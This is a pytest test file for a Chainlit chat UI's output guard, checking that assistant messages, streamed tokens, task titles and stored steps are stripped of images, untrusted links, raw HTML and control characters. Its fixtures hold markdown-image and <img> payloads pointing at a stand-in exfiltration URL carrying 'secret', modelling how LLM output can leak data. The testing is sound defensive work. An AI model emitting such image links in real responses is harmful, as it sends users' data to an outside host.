"""What Chainlit sends to the browser, streamed or whole, and what it stores, is sanitised text."""

from __future__ import annotations

from typing import Any

import pytest

from ui import output_guard
from ui.chainlit.patches import output as chainlit_patches
from ui.chainlit.patches.output import SanitisingEmitter
from ui.output_guard import TRUSTED_LINKS_KEY, sanitise_step

EVIL = "http://127.0.0.1:9999/c?d=secret"


class _Session:
    def __init__(self) -> None:
        self.sent: list[tuple[str, Any]] = []

    async def emit(self, event: str, data: Any) -> None:
        self.sent.append((event, data))


@pytest.fixture(autouse=True)
def _policy() -> None:
    output_guard.configure(public_url="http://localhost:8000", image_origins=[])
    chainlit_patches.guard_output()


def _step(output: str, **extra: Any) -> dict[str, Any]:
    return {"id": "s1", "type": "assistant_message", "output": output, "metadata": {}, **extra}


async def test_whole_steps_are_sanitised() -> None:
    session = _Session()
    emitter = SanitisingEmitter(session)  # type: ignore[arg-type]
    await emitter.send_step(_step(f"a ![x]({EVIL}) b"))
    await emitter.update_step(_step(f"<img src={EVIL}>"))
    shown = [data["output"] for _, data in session.sent]
    assert all("secret" not in text and "![" not in text and "<img" not in text for text in shown)


async def test_streamed_tokens_never_show_a_split_image() -> None:
    session = _Session()
    emitter = SanitisingEmitter(session)  # type: ignore[arg-type]
    await emitter.stream_start(_step("Here it comes: "))
    shown = ""
    tokens = [
        "a long enough sentence to release ",
        "![x](http://127.0.0.1:9999/",
        "c?d=secret)",
        " end ",
        "x " * 30,
    ]
    for token in tokens:
        before = len(session.sent)
        await emitter.send_token("s1", token)
        for _, data in session.sent[before:]:
            shown = data["token"] if data["isSequence"] else shown + data["token"]
            assert "![" not in shown
            assert "secret" not in shown
    assert "image removed: 127.0.0.1" in shown


async def test_tokens_of_an_unknown_stream_are_held_back() -> None:
    session = _Session()
    await SanitisingEmitter(session).send_token("nope", f"![x]({EVIL})")  # type: ignore[arg-type]
    assert session.sent == []


def test_stored_steps_keep_trusted_citations_only() -> None:
    cited = "https://example.org/a?id=1"
    step = _step(
        f'["q"]({cited}) [other](https://example.org/b?id=2)', metadata={TRUSTED_LINKS_KEY: [cited]}
    )
    out = sanitise_step(step)["output"]
    assert cited in out
    assert "id=2" not in out


def test_user_messages_keep_their_links_but_not_images() -> None:
    out = sanitise_step(_step(f"[s](https://example.com/?q=1) ![x]({EVIL})", type="user_message"))[
        "output"
    ]
    assert "?q=1" in out
    assert "image removed" in out


def test_raw_html_stays_off_in_chainlit() -> None:
    from chainlit.config import config

    config.features.unsafe_allow_html = True
    chainlit_patches.guard_output()
    assert config.features.unsafe_allow_html is False


async def test_task_titles_are_sanitised() -> None:
    import chainlit as cl

    tasks = object.__new__(cl.TaskList)  # a TaskList outside a Chainlit session
    tasks.status = "Running"
    tasks.tasks = [cl.Task(title=f"step ![x]({EVIL})")]
    await tasks.preprocess_content()
    assert "secret" not in tasks.content
    assert "image removed" in tasks.content


def test_step_names_lose_control_characters() -> None:
    step: Any = {"name": "sql_query\x00\u202e", "type": "tool", "output": "ok\x00"}

    clean = sanitise_step(step)

    assert clean["name"] == "sql_query "
    assert clean["output"] == "ok "
